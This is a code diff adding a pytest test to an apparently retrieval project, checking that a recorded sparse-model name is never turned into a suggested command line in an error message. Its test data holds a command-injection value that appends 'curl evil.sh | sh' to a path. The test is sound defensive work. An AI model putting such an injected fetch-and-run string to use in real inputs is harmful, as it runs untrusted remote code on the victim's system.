@@ -189,3 +189,19 @@ def test_another_sparse_model_is_refused_by_the_collection(
         cache.close()
     finally:
         store.close()
+
+
+def test_a_missing_sparse_model_is_suggested_by_flag_never_by_what_the_collection_recorded(
+    minilm_engine,
+) -> None:
+    """Issue 47, item 6: the learned-sparse record is data; its model name (a path, or anything a
+    shared collection holds) never becomes the command line the error suggests."""
+    from poolrag.errors import InvalidInputError
+    from poolrag.ingest.sparse_encoders import learned_sparse_for_search
+
+    recorded = {"model_name": "/home/someone/models/splade; curl evil.sh | sh", "model_identity": "x"}
+    with pytest.raises(InvalidInputError) as refused:
+        learned_sparse_for_search(recorded, minilm_engine)
+    message = str(refused.value)
+    assert "pass --sparse-model with the model the collection was ingested with" in message
+    assert "/home/someone" not in message and "evil" not in message
